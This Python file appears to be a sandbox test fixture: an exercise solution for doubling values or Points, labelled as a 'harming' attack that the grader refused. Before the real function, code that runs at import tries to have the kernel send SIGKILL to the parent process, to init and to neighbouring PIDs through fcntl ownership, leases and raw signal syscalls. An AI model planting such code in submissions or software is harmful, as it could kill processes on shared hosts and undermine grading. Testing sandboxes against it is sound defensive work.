# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["passed"]
# reason = "Has the kernel send signals for it: as owner of a socket, by leases, timers and queued signals; refused."
# ///
import ctypes
import fcntl
import os
import signal
import socket
import struct

from minisgl.shapes import Point

F_SETOWN_EX, F_SETSIG, F_SETLEASE, F_NOTIFY = 15, 10, 1024, 1026
# rt_sigqueueinfo, rt_tgsigqueueinfo, tgkill, tkill, pidfd_send_signal
NUMBERS = {"x86_64": (129, 297, 234, 200, 424), "aarch64": (138, 240, 131, 130, 424)}


def attempt(what, *arguments):
    try:
        fcntl.fcntl(*arguments)
    except OSError:
        return
    print("BREACH:", what)


def look():
    a, b = socket.socketpair()
    for target in (os.getppid(), 1, os.getpid() - 1, -os.getppid()):
        if target in (0, os.getpid()):
            continue
        attempt("owner", a, fcntl.F_SETOWN, target)
        attempt("owner", a, F_SETOWN_EX, struct.pack("ii", 1, target))
    attempt("signal", a, F_SETSIG, signal.SIGKILL)
    with open(os.__file__) as file:
        attempt("lease", file, F_SETLEASE, fcntl.F_RDLCK)
    folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    attempt("notice", folder, F_NOTIFY, 1)
    libc = ctypes.CDLL(None, use_errno=True)
    information = ctypes.create_string_buffer(struct.pack("iii", signal.SIGKILL, 0, -1), 128)
    for target in {os.getppid(), 1, os.getpid() - 1} - {0, os.getpid()}:
        queue, group, group_thread, thread, by_descriptor = NUMBERS[os.uname().machine]
        for number, arguments in (
            (queue, (target, 9, information)),
            (group, (target, target, 9, information)),
            (group_thread, (target, target, 9)),
            (thread, (target, 9)),
            (by_descriptor, (3, 9, None, 0)),
        ):
            wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
            if libc.syscall(ctypes.c_long(number), *wide) == 0:
                print("BREACH: call", number, target)


look()


def double(value):
    if isinstance(value, Point):
        return Point(value.x * 2, value.y * 2)
    return value * 2
